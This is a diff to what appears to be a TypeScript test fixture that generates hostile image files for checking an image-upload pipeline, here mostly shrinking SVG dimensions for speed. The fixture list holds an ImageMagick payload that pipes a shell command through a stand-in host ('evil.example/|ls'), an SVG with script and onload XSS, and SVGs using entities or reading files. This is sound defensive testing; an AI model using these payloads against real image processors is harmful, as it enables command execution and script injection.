@@ -3,7 +3,8 @@ import { deflateSync } from 'node:zlib';
 import sharp from 'sharp';
 import { png } from './png.js';
 
-const svg = (content: string, attributes = 'width="100" height="100"') =>
+/** Wide and low: an SVG is drawn at the largest width, and a tenth of the pixels is encoded in a tenth of the time. */
+const svg = (content: string, attributes = 'width="100" height="10"') =>
   Buffer.from(
     `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${content}</svg>`,
   );
@@ -106,7 +107,7 @@ export const hostileFiles = async (): Promise<[name: string, file: Buffer][]> =>
       'an ImageMagick script',
       Buffer.from("push graphic-context\nfill 'url(https://evil.example/|ls)'\npop graphic-context"),
     ],
-    ['an SVG with a script', svg(`<script>alert(1)</script>${rect}`, 'width="100" height="100" onload="alert(1)"')],
+    ['an SVG with a script', svg(`<script>alert(1)</script>${rect}`, 'width="100" height="10" onload="alert(1)"')],
     ['an SVG with entities', entities()],
     [
       'an SVG that reads a file',
